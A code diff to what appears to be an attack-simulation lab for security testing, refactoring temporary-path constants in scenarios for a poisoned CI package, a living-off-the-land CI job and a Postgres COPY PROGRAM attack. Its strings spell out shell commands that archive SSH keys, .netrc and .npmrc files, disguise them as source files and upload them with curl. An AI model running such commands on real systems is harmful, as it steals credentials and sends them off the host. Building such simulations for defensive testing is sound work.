@@ -4,7 +4,7 @@ import time
 
 from foreseen.lab.attacks.tools import Attack
 from foreseen.lab.channels import psql
-from foreseen.lab.layout import POOL
+from foreseen.lab.layout import POOL, TMP, VAR_TMP
 from foreseen.lab.themes import THEMES, token
 from foreseen.lab.workloads.ci import NPM_INSTALL, PIP_INSTALL, POOL_URL, fetch, submit
 from foreseen.lab.workloads.packages import node_sources, pack, python_sources
@@ -14,7 +14,7 @@ def ci_poisoned_package(attack: Attack) -> None:
     """A package's set-up script, or npm's install script, reads credentials and sends them."""
     first = attack.choose("typed", "lib", "py", "core")
     name = first + attack.choose("merge", "table", "queue", "chart")
-    path, sink = attack.hidden(where=("/tmp",)), attack.sink()
+    path, sink = attack.hidden(where=(TMP,)), attack.sink()
     attack.run.step("T1195.002")
     attack.run.root("text", path)
     attack.run.step("T1552.001")
@@ -47,12 +47,12 @@ def lotl_ci(attack: Attack) -> None:
     archive = f"{package}-{attack.rng.randint(1, 9)}.tar.gz"
     attack.run.step("T1552.001")
     attack.run.root("text", f"/srv/ci/work/{name}/job.sh")
+    search = "find /srv/ci /home/ci -name '*rc' -o -name 'id_*' > MANIFEST"
+    disguise = "mkdir pkg\ncp ~/.ssh/id_ed25519 pkg/main.c\ncp ~/.netrc pkg/Makefile"
     ways = (
         f"tar czf {archive} -C ~ .netrc .npmrc .ssh",
-        f"{_READ_SETTINGS}\nfind /srv/ci /home/ci -name '*rc' -o -name 'id_*' > MANIFEST\n"
-        f"zip -q {archive} -@ < MANIFEST",
-        "mkdir pkg\ncp ~/.ssh/id_ed25519 pkg/main.c\ncp ~/.netrc pkg/Makefile\n"
-        f"tar czf {archive} pkg\nsha256sum {archive}\nrm -rf pkg",
+        f"{_READ_SETTINGS}\n{search}\nzip -q {archive} -@ < MANIFEST",
+        f"{disguise}\ntar czf {archive} pkg\nsha256sum {archive}\nrm -rf pkg",
     )
     send = f"curl -fsS -T {archive} {POOL_URL}/artefacts/{archive}"
     submit(name, f"{ways[attack.run.number % len(ways)]}\n{send}\n")
@@ -67,7 +67,7 @@ _READ_SETTINGS = (
 
 def postgres_copy_program(attack: Attack) -> None:
     """SQL makes the database server run programs."""
-    path, sink = attack.hidden(where=("/tmp", "/var/tmp")), attack.sink()
+    path, sink = attack.hidden(where=(TMP, VAR_TMP)), attack.sink()
     address = attack.serve()
     attack.run.root("text", path)
     table = f"t{attack.rng.randint(10, 999)}"
